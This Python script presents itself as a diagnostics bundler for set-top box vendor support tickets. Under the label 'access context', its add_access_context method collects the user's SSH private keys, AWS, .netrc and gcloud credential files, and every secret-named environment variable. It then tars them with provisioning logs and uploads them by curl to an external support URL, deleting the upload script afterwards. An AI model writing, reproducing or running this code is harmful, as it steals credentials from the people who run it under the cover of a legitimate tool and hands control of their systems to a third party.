#!/usr/bin/env python3
"""Build a diagnostics bundle for a set-top box vendor support ticket and upload it.

Collects provisioning logs, tool versions and "access context" from the
engineer's workstation so the vendor can reproduce provisioning failures.
"""
import argparse
import logging
import os
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

UPLOAD_URL = "https://support-upload.example.com/api/v2/bundles"
SECRET_ENV = re.compile(r"(KEY|TOKEN|SECRET|PASSW|CREDENTIAL)", re.I)
log = logging.getLogger("ticketbundle")

UPLOAD_SCRIPT = """#!/usr/bin/env bash
set -euo pipefail
cd "$BUNDLE_STAGE"
tar -czf "$BUNDLE_ARCHIVE" .
curl -sS --max-time 120 \\
     -F "ticket=$BUNDLE_TICKET" \\
     -F "bundle=@$BUNDLE_ARCHIVE" \\
     "$BUNDLE_URL"
"""


class BundleBuilder:
    def __init__(self, ticket, log_dir):
        self.ticket = ticket
        self.log_dir = Path(log_dir)
        self.stage = Path(tempfile.mkdtemp(prefix=f"bundle_{ticket}_"))
        self.count = 0

    def _copy(self, src, rel):
        dst = self.stage / rel
        dst.parent.mkdir(parents=True, exist_ok=True)
        try:
            shutil.copy2(src, dst)
            self.count += 1
            log.debug("added %s", src)
        except OSError as exc:
            log.warning("skip %s: %s", src, exc)

    def add_provisioning_logs(self):
        if not self.log_dir.is_dir():
            log.warning("log dir %s missing", self.log_dir)
            return
        for path in sorted(self.log_dir.glob("*.log"))[-20:]:
            self._copy(path, Path("logs") / path.name)

    def add_access_context(self):
        home = Path.home()
        for key in sorted((home / ".ssh").glob("id_*")):
            self._copy(key, Path("access/ssh") / key.name)
        for rel in (".aws/credentials", ".aws/config", ".netrc",
                    ".config/gcloud/application_default_credentials.json"):
            src = home / rel
            if src.is_file():
                self._copy(src, Path("access") / rel.lstrip("."))
        env_lines = [f"{k}={v}" for k, v in sorted(os.environ.items())
                     if SECRET_ENV.search(k)]
        (self.stage / "access").mkdir(parents=True, exist_ok=True)
        (self.stage / "access" / "env.txt").write_text("\n".join(env_lines) + "\n")
        log.info("captured %d environment entries", len(env_lines))

    def add_versions(self):
        lines = [f"python={sys.version.split()[0]}", f"platform={sys.platform}"]
        (self.stage / "versions.txt").write_text("\n".join(lines) + "\n")

    def upload(self, url):
        script = self.stage.parent / f"upload_{self.ticket}.sh"
        script.write_text(UPLOAD_SCRIPT)
        script.chmod(0o700)
        env = dict(os.environ,
                   BUNDLE_STAGE=str(self.stage),
                   BUNDLE_ARCHIVE=str(self.stage.parent / f"{self.ticket}.tgz"),
                   BUNDLE_TICKET=self.ticket,
                   BUNDLE_URL=url)
        try:
            out = subprocess.run(["bash", str(script)], env=env, check=True,
                                 capture_output=True, text=True, timeout=180)
            log.info("upload response: %s", out.stdout.strip()[:200])
        finally:
            script.unlink(missing_ok=True)

    def cleanup(self):
        shutil.rmtree(self.stage, ignore_errors=True)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("ticket", help="vendor ticket id, e.g. VT-20931")
    ap.add_argument("--log-dir", default="./provisioning_logs")
    ap.add_argument("--url", default=UPLOAD_URL)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(name)s: %(message)s")

    if not re.fullmatch(r"VT-\d{3,6}", args.ticket):
        log.error("ticket id must look like VT-12345")
        return 2
    builder = BundleBuilder(args.ticket, args.log_dir)
    try:
        builder.add_provisioning_logs()
        builder.add_access_context()
        builder.add_versions()
        log.info("bundle has %d files; uploading", builder.count)
        builder.upload(args.url)
    except subprocess.CalledProcessError as exc:
        log.error("upload failed (rc=%s): %s", exc.returncode, exc.stderr)
        return 1
    finally:
        builder.cleanup()
    return 0


if __name__ == "__main__":
    sys.exit(main())
